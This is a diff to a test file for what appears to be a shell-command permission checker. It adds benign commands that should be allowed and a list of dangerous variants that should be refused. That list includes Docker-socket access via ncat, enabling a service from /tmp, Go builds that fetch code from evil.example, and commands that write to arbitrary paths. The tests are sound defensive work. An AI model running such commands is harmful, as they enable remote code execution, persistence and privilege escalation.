@@ -69,6 +69,31 @@ git maintenance start
 git maintenance register
 git fast-export --all --export-marks=../x
 git fast-import --export-marks=../x
+ncat --hex-dump /tmp/x a 1
+ncat --unixsock /run/docker.sock
+zip -lf /tmp/x -r a b
+zip --output-file /tmp/x a
+tcpdump --no-such-option
+journalctl --no-such-option
+systemctl enable /tmp/evil.service
+docker build --cache-to type=local,dest=/tmp/x .
+cargo test -- --logfile=/tmp/x
+cargo new ../x
+cargo vendor /tmp/x
+cargo doc --open
+go test -mod=mod evil.example/x
+go build -mod mod evil.example/x
+brew install ./x.rb
+brew install a/b/c
+bmake -dF/tmp/x
+make --no-such-option
+task --no-such-option
+task CC=./x build
+tar -cf a.tar --no-such-option b
+unzip --no-such-option a
+lsof -Dw/tmp/x
+base64 -o /tmp/x a
+sftp --no-such-option h
 pytest --alluredir=/tmp/x
 pytest --ds=evil.settings
 mypy --lineprecision-report=/tmp/x a.py
@@ -710,6 +735,15 @@ def test_there_are_many_dangerous_commands() -> None:
         ("pytest *", "pytest -x --no-such-option tests", False),
         ("pytest *", "pytest -x --pdb --deselect=a tests", True),
         ("eslint *", "eslint --fix .", True),
+        ("tar *", "tar -xzf a.tgz --strip-components=1", True),
+        ("tar *", "tar czf a.tgz b --exclude=c", True),
+        ("make *", "make -j4 -R --no-print-directory all", True),
+        ("docker *", "docker build -t a --no-cache .", True),
+        ("go *", "go test -mod=vendor ./...", True),
+        ("cargo *", "cargo test -- --nocapture x", True),
+        ("journalctl *", "journalctl -u a -n 50 --no-pager", True),
+        ("brew *", "brew install a", True),
+        ("zip *", "zip -qr a.zip b -x c", True),
         ("prettier *", "prettier --write .", True),
         ("mypy *", "mypy --strict --warn-unreachable -m a", True),
         ("tsc *", "tsc --Watch", True),
